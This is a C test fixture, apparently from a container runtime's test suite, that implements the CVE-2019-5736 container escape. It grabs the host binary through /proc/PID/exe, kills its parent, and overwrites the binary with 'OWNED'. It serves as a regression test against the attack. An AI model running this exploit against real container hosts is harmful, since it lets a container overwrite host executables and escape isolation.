/*
 * The program of a hostile image, for test_exec.py: the attack of CVE-2019-5736.
 *
 *     started as the loader of some program    takes a handle on that program: /proc/self/exe
 *     attack PID                               takes a handle on what PID runs, and kills PID
 *
 * Then it executes itself anew, so that nobody runs the victim any more, and writes to it.
 * Static and without a C library, for it also has to start in the place of a loader.
 */
#include <asm/fcntl.h>
#define begin trampoline
#include "../../minicontainer/trampoline.c"
#undef begin

#define SAY(text) sys(__NR_write, 1, (long)(text), sizeof(text) - 1, 0)

void begin(long *stack)
{
    char **argv = (char **)(stack + 1), **envp = argv + stack[0] + 1;
    char *again[] = {"again", 0}, path[32] = "/proc/self/exe", *end = path + 6;
    long fd;

    if (!same(argv[0], "again")) {
        if (same(argv[0], "/attack") && stack[0] > 1) {
            for (char *digit = argv[1]; *digit; digit++)
                *end++ = *digit;
            for (const char *rest = "/exe"; *rest; rest++)
                *end++ = *rest;
            *end = 0;
        }
        fd = sys(__NR_openat, AT_FDCWD, (long)path, O_RDONLY, 0);
        if (end != path + 6)
            sys(__NR_kill, sys(__NR_getppid, 0, 0, 0, 0), 9, 0, 0);
        sys(__NR_dup3, fd, 100, 0, 0);
        sys(__NR_execve, (long)"/attack", (long)again, (long)envp, 0);
        leave(99);
    }
    do /* until the last process that runs it has gone */
        fd = sys(__NR_openat, AT_FDCWD, (long)"/proc/self/fd/100", O_WRONLY, 0);
    while (fd == -ETXTBSY);
    if (fd < 0) {
        SAY("NOT OPENED\n");
        leave(-fd);
    }
    fd = sys(__NR_write, fd, (long)"OWNED", 5, 0);
    if (fd < 0) {
        SAY("OPENED, NOT WRITTEN\n");
        leave(-fd);
    }
    SAY("OWNED\n");
    leave(0);
}
